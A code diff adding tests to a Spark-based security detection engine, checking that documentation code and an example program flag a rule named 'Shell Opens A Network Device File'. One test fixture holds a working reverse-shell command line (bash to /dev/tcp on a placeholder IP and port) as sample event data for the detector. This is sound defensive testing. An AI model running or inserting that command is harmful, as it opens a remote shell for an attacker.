@@ -4,7 +4,12 @@ from __future__ import annotations
 
 import gzip
 import json
+import os
 import random
+import re
+import shutil
+import subprocess
+import sys
 from collections import Counter
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -327,3 +332,36 @@ def test_rules_that_need_more_are_refused(session: SparkSession) -> None:
         detect(session.range(1), correlated)
     with pytest.raises(ValueError, match="delivery is 'standalone' or 'linked', not 'pickled'"):
         detect(session.range(1), RULES, delivery="pickled")  # type: ignore[arg-type]
+
+
+def test_the_documentation_runs(
+    session: SparkSession, delivery: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Every piece of Python in docs/scale.md, one after the other, on the events of the example program."""
+    monkeypatch.chdir(tmp_path)
+    shutil.copytree(ROOT / "examples" / "rules", "rules")
+    event = {"_HOSTNAME": "web-1", "_EXE": "/usr/bin/bash", "_CMDLINE": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}
+    session.createDataFrame([event]).write.parquet(str(tmp_path / "events"))
+    (tmp_path / "incoming").mkdir()
+    (tmp_path / "incoming" / "events.jsonl").write_text(json.dumps(event) + "\n")
+    code = re.findall(r"```python\n(.*?)```", (ROOT / "docs" / "scale.md").read_text(), re.DOTALL)
+    # The JVM's folder is another one, so that relative paths are written out.
+    text = re.sub(
+        r'"(events|incoming|checkpoint|matches)/"', lambda found: repr(str(tmp_path / found[1])), "\n".join(code)
+    )
+    namespace: dict[str, Any] = {"spark": session}
+    exec(compile(text, "scale.md", "exec"), namespace)
+    query = namespace["query"]
+    query.processAllAvailable()
+    query.stop()
+    [row] = session.read.parquet(str(tmp_path / "matches")).collect()
+    assert (row.rule.title, row.problem) == ("Shell Opens A Network Device File", None)
+
+
+def test_the_example_runs() -> None:
+    """As it stands in examples/, its workers without anything of ours but what is shipped to them."""
+    require_spark()
+    environment = os.environ | {"PYSPARK_PYTHON": str(WORKERS["standalone"] / "bin" / "python")}
+    command = [sys.executable, "examples/spark_detect.py"]
+    done = subprocess.run(command, cwd=ROOT, env=environment, capture_output=True, text=True, check=True)
+    assert done.stdout.splitlines()[-1] == "web-1 high Shell Opens A Network Device File"
